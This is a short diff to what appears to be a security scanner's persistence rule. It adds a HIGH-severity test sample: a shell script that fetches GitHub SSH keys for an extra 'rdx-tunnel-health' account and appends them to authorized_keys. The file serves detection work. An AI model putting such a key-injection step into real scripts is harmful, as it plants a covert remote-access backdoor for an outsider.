@@ -354,6 +354,11 @@ export const s009Persistence: ScanRule = {
         level: 'HIGH',
       },
       {
+        path: 'scripts/authorize_keys.sh',
+        text: 'RELAY="rdx-tunnel-health"\nAK="$HOME/.ssh/authorized_keys"\nfor acct in "$ME" "$RELAY"; do\n  curl -fsSL "https://github.com/${acct}.keys" | while read -r k; do printf \'%s\\n\' "$k" >> "$AK"; done\ndone\n',
+        level: 'HIGH',
+      },
+      {
         path: 'scripts/enable_ssh.sh',
         text: 'AUTH="$HOME/.ssh/authorized_keys"\nfor k in "$HERE"/keys/*.pub; do cat "$k" >> "$AUTH"; done\n',
         level: 'HIGH',
